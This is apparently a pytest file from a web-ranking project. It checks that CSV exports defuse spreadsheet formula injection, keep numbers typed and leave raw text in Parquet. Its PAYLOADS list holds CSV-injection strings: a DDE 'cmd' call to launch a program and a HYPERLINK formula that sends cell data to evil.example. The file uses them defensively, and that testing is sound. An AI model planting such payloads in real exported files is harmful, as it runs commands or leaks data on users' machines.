"""CSV files run nothing in a spreadsheet, and hold what they should for every reader."""

from __future__ import annotations

import csv
import io
import subprocess
from datetime import UTC, datetime
from pathlib import Path

import duckdb
import pandas as pd
import pyarrow as pa
import pytest
from hypothesis import example, given
from hypothesis import strategies as st
from support import ranked
from support.hostile_text import TEXT

from analysis.cells import csv_of, csv_of_columns, csv_text, is_formula
from analysis.export import export
from analysis.rankings import RANKING_COLUMNS, to_csv

STARTS = ("=", "+", "-", "@", "\t", "\r", "\n", "\0", "\uff1d", "\uff0b", "\uff0d", "\uff20")
"""What OWASP names, the full-width forms included."""
BEFORE = ("", " ", "   ", "\xa0", "\u3000", "\u200b", "\ufeff", "\u2060", "\x01", "\v", " \t ")
PAYLOADS = ("1+1", "cmd|' /C calc'!A0", 'HYPERLINK("http://evil.example/?"&A1)', "SUM(1)*1", "")
ROOT = Path(__file__).parent.parent.parent


@pytest.mark.parametrize("start", STARTS)
@pytest.mark.parametrize("before", BEFORE)
def test_text_that_a_spreadsheet_would_run_is_defused(start, before):
    for payload in PAYLOADS:
        text = f"{before}{start}{payload}"
        assert csv_text(text) == f"'{text}"


@pytest.mark.parametrize("start", ["\ufe62", "\ufe63", "\ufe66", "\ufe6b", "\u207a", "\u2212"])
def test_small_and_raised_forms_count_as_well(start):
    assert csv_text(f"{start}1") == f"'{start}1"


@pytest.mark.parametrize(
    "text", ["", " ", "a=b", "1+1", "x@y.example", "'=1", "https://a.example/"]
)
def test_other_text_stays_as_it_is(text):
    assert csv_text(text) == text


@pytest.mark.parametrize(
    ("value", "cell"),
    [(-1, "-1"), (-0.5, "-0.5"), (2**60, "1152921504606846976"), (True, "true"), (False, "false"),
     (None, ""), (float("nan"), ""), (datetime(2026, 1, 2, tzinfo=UTC), "2026-01-02T00:00:00+00:00")],
)  # fmt: skip
def test_a_number_is_no_text(value, cell):
    assert csv_text(value) == cell


@given(st.lists(st.tuples(TEXT, TEXT), min_size=1, max_size=5))
@example([('a"b,c\nd\re;f\tg', "\r\n")])
def test_every_cell_comes_back_from_a_csv(rows):
    text = csv_of(["a", "b"], rows)
    found = list(csv.reader(io.StringIO(text, newline="")))
    assert found == [["a", "b"], *([csv_text(cell) for cell in row] for row in rows)]
    for row in found[1:]:
        assert not any(is_formula(cell) for cell in row)


@pytest.fixture
def formulas(tmp_path: Path) -> tuple[Path, list[str]]:
    """A ranked dataset of another program's, whose every text is a formula."""
    texts = [f"{start}{payload}{number}" for number, (start, payload) in
             enumerate((start, payload) for start in STARTS for payload in PAYLOADS)]  # fmt: skip
    domains = [
        ranked.domain(text, rank, authority=-1.5, authority_method=text, crawl_id=text,
                      icann_domain=text, domain_rev=text)
        for rank, text in enumerate(texts, 1)
    ]  # fmt: skip
    edges = [ranked.edge(texts[0], text, top_anchor=text, crawl_id=text) for text in texts[1:]]
    return ranked.write_dataset(tmp_path / "d", domains=domains, edges=edges), texts


def cells_of(text: str) -> list[str]:
    rows = list(csv.reader(io.StringIO(text, newline="")))
    return [cell for row in rows for cell in row]


def test_no_csv_of_the_project_holds_a_formula(formulas):
    folder, texts = formulas
    import pyarrow.parquet as pq

    table = pq.read_table(folder / "domains.parquet")
    written = [path.read_bytes().decode() for path in export(folder, "csv")]
    for text in (to_csv(table, RANKING_COLUMNS), *written):
        cells = [cell for cell in cells_of(text) if cell not in ("-1.5", "-1")]  # numbers
        assert len(cells) > len(texts)
        assert not [cell for cell in cells if is_formula(cell)]
        assert sum(cell.startswith("'") for cell in cells) >= len(texts) - 1


def test_numbers_stay_numbers_for_every_reader(formulas):
    folder, texts = formulas
    nodes, edges = export(folder, "csv")
    frame = pd.read_csv(nodes)
    assert set(frame["authority"]) == {-1.5}
    assert set(frame["community"]) == {-1}
    assert len(frame) == len(texts)
    relation = duckdb.sql(f"from read_csv('{edges}', header = true)")
    assert dict(zip(relation.columns, map(str, relation.types), strict=True))["n_links"] == "BIGINT"
    assert relation.shape[0] == len(texts) - 1


def test_the_raw_text_is_in_parquet(formulas):
    folder, texts = formulas
    rows = duckdb.sql(f"select top_anchor from '{folder}/domain_edges.parquet'").fetchall()
    assert {text for (text,) in rows} == set(texts[1:])


def test_no_other_code_writes_csv():
    found = subprocess.run(
        ["grep", "-rlE", r"csv\.writer|csv\.DictWriter|to_csv\(|FORMAT CSV",
         "linkcrawler", "pipelines", "analysis", "--include=*.py"],
        cwd=ROOT, capture_output=True, text=True, check=False,
    )  # fmt: skip
    # All print what `analysis.cells` makes.
    assert set(found.stdout.split()) == {
        "analysis/commands.py",
        "analysis/commands_next.py",
        "analysis/decided.py",
        "analysis/rankings.py",
    }


def test_columns_are_written_like_rows():
    moment = datetime(2026, 1, 2, 3, 4, 5, tzinfo=UTC)
    columns = {
        "text": ["=1", "a,b", None, "a,b"], "number": [1, -2, None, 3], "real": [0.1, -1e-7, None, 5.0],
        "truth": [True, None, False, True], "time": [moment, None, moment, moment],
    }  # fmt: skip
    table = pa.table(columns)
    plain = csv_of(list(columns), zip(*columns.values(), strict=True))
    assert csv_of_columns(list(columns), [table[name] for name in columns]) == plain
    empty = table.slice(0, 0)
    assert csv_of_columns(["a"], [empty["text"]]) == "a\n"
